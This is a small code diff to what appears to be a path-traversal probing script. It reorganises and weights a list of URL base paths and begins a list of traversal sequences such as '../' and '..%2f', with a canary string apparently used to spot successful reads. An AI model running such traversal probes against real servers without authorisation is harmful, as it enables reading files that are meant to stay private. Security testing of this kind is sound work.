@@ -16,17 +16,9 @@ const COUNT = 2_000
 const CANARY = 'jararaca4711'
 const AT_ONCE = 10
 
-const places = [
-  '/pictures/640/',
-  '/films/',
-  '/assets/',
-  '/documents/1/',
-  '/storage/',
-  '/media/',
-  '/private/',
-  '/.well-known/',
-  '/',
-]
+const ofFiles = ['/pictures/640/', '/films/', '/assets/']
+const ofPages = ['/documents/1/', '/storage/', '/media/', '/private/', '/.well-known/', '/']
+const places = [...ofFiles, ...ofFiles, ...ofFiles, ...ofPages] // what is not there costs less than a page that says so
 const steps = [
   '../',
   '..%2f',
